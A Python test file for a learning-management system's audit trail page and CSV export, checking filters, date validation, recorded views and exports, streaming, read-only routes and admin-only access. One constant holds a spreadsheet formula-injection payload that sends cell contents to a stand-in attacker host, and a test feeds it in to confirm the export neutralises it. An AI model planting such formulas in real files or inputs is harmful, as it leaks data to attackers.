"""The audit trail page and its CSV export: filters, safe cells, recorded reads, and no way to change rows."""
import csv
import io
import re
from datetime import UTC, datetime

import pytest
from freezegun import freeze_time
from sqlalchemy import select

from lms.accounts.roles import Role
from lms.audit import services as audit
from lms.audit.models import AuditEvent
from lms.extensions import db
from tests.query_count import counting_queries

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'




def record_at(app, moment: str, action: str, **fields) -> None:
    """Append an event as if it happened at `moment` (UTC)."""
    fields.setdefault("object_type", "account")
    fields.setdefault("object_id", 1)
    fields.setdefault("actor_label", "someone@example.test")
    with app.app_context(), freeze_time(moment):
        audit.record(action, **fields)
        db.session.commit()


def table_rows(page: str) -> list[str]:
    body = page[page.index("<tbody>"):page.index("</tbody>")]
    return re.findall(r"<tr>.*?</tr>", body, flags=re.S)


def download(client, url: str):
    """GET a streamed response, read it whole and close it (which ends its request)."""
    response = client.get(url)
    text = response.get_data(as_text=True)
    response.close()
    return response, text


@pytest.fixture
def admin(make_account, sign_in):
    account = make_account(Role.ADMIN, name="Ada Admin", email="ada.admin@example.test")
    sign_in(account)
    return account


def test_the_audit_page_lists_events_newest_first_with_hundredths_of_a_second_in_utc(app, admin, client):
    record_at(app, "2025-03-01 09:00:00.123456", "person.created", object_type="person", object_id=7)
    record_at(app, "2025-03-02 10:30:00.987654", "account.unlocked", object_id=8)
    page = client.get("/audit/?date_from=2025-03-01&date_to=2025-03-02").get_data(as_text=True)
    assert page.count("<h1>") == 1 and "<h1>Audit trail</h1>" in page
    rows = table_rows(page)
    assert "account.unlocked" in rows[0] and "person.created" in rows[1]
    assert "2025-03-02T10:30:00.98Z" in rows[0]
    assert "2025-03-01T09:00:00.12Z" in rows[1]
    assert "person 7" in rows[1] and "someone@example.test" in rows[1] and "cli" in rows[1]
    assert "Success" in rows[0]


def test_the_audit_page_filters_by_action(app, admin, make_account, sign_in, client):
    officer = make_account(Role.OFFICER)
    sign_in(officer, password="wrong password!", via=app.test_client())
    page = client.get("/audit/?action=login.failed").get_data(as_text=True)
    rows = table_rows(page)
    assert len(rows) == 1
    assert "login.failed" in rows[0] and officer.email in rows[0] and "Failure" in rows[0]
    assert '<option selected value="login.failed">' in page or 'value="login.failed" selected' in page


def test_the_audit_page_filters_by_actor_outcome_object_and_type(app, admin, client):
    record_at(app, "2025-05-01 12:00", "account.unlocked", object_id=41, actor_label="cora@example.test")
    record_at(app, "2025-05-01 12:01", "login.failed", object_id=42, actor_label="sam@example.test",
              outcome="failure")
    record_at(app, "2025-05-01 12:02", "person.created", object_type="person", object_id=41,
              actor_label="cora@example.test")
    assert len(table_rows(client.get("/audit/?actor=CORA&date_to=2025-05-01").get_data(as_text=True))) == 2
    failures = table_rows(client.get("/audit/?outcome=failure&date_to=2025-05-01").get_data(as_text=True))
    assert len(failures) == 1 and "sam@example.test" in failures[0]
    by_object = table_rows(client.get("/audit/?object_type=account&object_id=41").get_data(as_text=True))
    assert len(by_object) == 1 and "account.unlocked" in by_object[0]


def test_the_audit_page_filters_by_a_date_range_that_includes_the_whole_last_day(app, admin, client):
    record_at(app, "2025-03-01 12:00", "event.before")
    record_at(app, "2025-03-10 00:00", "event.first_day")
    record_at(app, "2025-03-15 23:59:59.99", "event.last_day")
    record_at(app, "2025-03-16 00:00", "event.after")
    page = client.get("/audit/?date_from=2025-03-10&date_to=2025-03-15").get_data(as_text=True)
    rows = table_rows(page)
    assert [re.search(r"event\.\w+", row).group() for row in rows] == ["event.last_day", "event.first_day"]
    only_from = table_rows(client.get("/audit/?date_from=2025-03-16").get_data(as_text=True))
    assert any("event.after" in row for row in only_from)
    assert not any("event.last_day" in row for row in only_from)


def test_dates_out_of_order_get_a_message_next_to_the_field(admin, client):
    response = client.get("/audit/?date_from=2025-03-15&date_to=2025-03-10")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert re.search(r'id="date_to-error"[^>]*>The end date must be the same as or later than the start date\.', page)
    assert "<tbody>" not in page


def test_a_date_that_is_not_a_date_gets_a_message(admin, client):
    response = client.get("/audit/?date_from=2025-13-45")
    assert response.status_code == 400
    assert 'id="date_from-error"' in response.get_data(as_text=True)


def test_viewing_the_audit_trail_is_itself_recorded(app, admin, client):
    client.get("/audit/?action=login.succeeded")
    with app.app_context():
        viewed = db.session.execute(select(AuditEvent).where(AuditEvent.action == "audit.viewed")).scalar_one()
    assert viewed.actor_id == admin.id and '"action": "login.succeeded"' in viewed.details


def test_the_audit_page_runs_as_many_queries_for_many_events_as_for_few(app, admin, client):
    client.get("/audit/")
    with counting_queries(app) as few:
        assert client.get("/audit/").status_code == 200
    for n in range(60):
        record_at(app, f"2025-01-01 00:00:{n:02d}", f"event.kind_{n % 7}", object_id=n)
    with counting_queries(app) as many:
        page = client.get("/audit/").get_data(as_text=True)
    assert len(table_rows(page)) == 50 and "page 1 of 2" in page
    assert len(many) == len(few), many


# CSV export

def test_the_csv_export_has_a_header_row_iso_times_and_is_an_attachment(app, admin, client):
    record_at(app, "2025-03-02 10:30:00.987654", "account.unlocked", object_id=8)
    response, text = download(client, "/audit/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Content-Disposition"].endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Sequence", "Time (UTC)", "Actor", "Action", "Object type", "Object ID", "Outcome",
                       "Client address", "Endpoint", "Details"]
    unlocked = next(row for row in rows[1:] if row[3] == "account.unlocked")
    assert unlocked[1] == "2025-03-02T10:30:00.987654Z"
    assert datetime.fromisoformat(unlocked[1]) == datetime(2025, 3, 2, 10, 30, 0, 987654, tzinfo=UTC)
    assert sum(1 for row in rows if row[0] == "Sequence") == 1


def test_the_csv_export_neutralises_values_a_spreadsheet_would_run_as_formulas(app, admin, client):
    # Someone types a formula as their email at the sign-in page; it is recorded as the actor.
    app.test_client().post("/login", data={"email": FORMULA, "password": "anything at all"})
    record_at(app, "2025-03-02 10:00", "person.updated", object_type="person", object_id="+1-555",
              actor_label="@SUM(1+1)", details={"note": FORMULA})
    _, text = download(client, "/audit/export.csv")
    rows = list(csv.reader(io.StringIO(text)))
    failed = next(row for row in rows if row[3] == "login.failed")
    assert failed[2] == "'" + FORMULA
    assert failed[5] == "'-"
    updated = next(row for row in rows if row[3] == "person.updated")
    assert updated[2] == "'@SUM(1+1)" and updated[5] == "'+1-555"
    assert FORMULA.replace('"', '\\"') in updated[9]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_exporting_is_recorded_in_the_audit_trail(app, admin, client):
    download(client, "/audit/export.csv?outcome=failure")
    with app.app_context():
        exported = db.session.execute(select(AuditEvent).where(AuditEvent.action == "audit.exported")).scalar_one()
    assert exported.actor_id == admin.id and exported.outcome == "success"
    assert exported.endpoint == "GET audit.export" and '"outcome": "failure"' in exported.details


def test_the_csv_export_applies_the_same_filters_as_the_page(app, admin, client):
    record_at(app, "2025-03-01 12:00", "event.early")
    record_at(app, "2025-03-20 12:00", "event.late")
    page = client.get("/audit/?date_from=2025-03-10&date_to=2025-03-31").get_data(as_text=True)
    assert "/audit/export.csv?date_from=2025-03-10&amp;date_to=2025-03-31" in page
    _, text = download(client, "/audit/export.csv?date_from=2025-03-10&date_to=2025-03-31")
    actions = [row[3] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert actions == ["event.late"]


def test_the_csv_export_refuses_dates_out_of_order(admin, client):
    response = client.get("/audit/export.csv?date_from=2025-03-15&date_to=2025-03-10")
    assert response.status_code == 400
    assert "The end date must be the same as or later than the start date." in response.get_data(as_text=True)


def test_a_large_trail_is_streamed_in_batches(app, admin, client):
    with app.app_context():
        for n in range(1200):
            audit.record("event.bulk", object_type="test", object_id=n, actor_label="bulk@example.test")
        db.session.commit()
    response = client.get("/audit/export.csv?action=event.bulk")
    assert response.is_streamed
    lines = response.get_data(as_text=True).splitlines()
    response.close()
    assert len(lines) == 1 + 1200


# No changes, and admins only

def test_no_audit_route_changes_or_deletes_rows(app, admin, client):
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("audit."):
            assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule
    before = client.get("/audit/export.csv")
    before.close()
    for method in ("post", "put", "patch", "delete"):
        assert getattr(client, method)("/audit/").status_code == 405
        assert getattr(client, method)("/audit/export.csv").status_code == 405


@pytest.mark.parametrize("role", [Role.COORDINATOR, Role.TRAINING_OFFICER, Role.MHP])
def test_only_the_state_administrator_may_read_the_audit_trail(app, role, make_account, sign_in, client):
    sign_in(make_account(role))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403
    with app.app_context():
        actions = db.session.execute(select(AuditEvent.action)).scalars().all()
    assert "audit.exported" not in actions and "access.forbidden" in actions
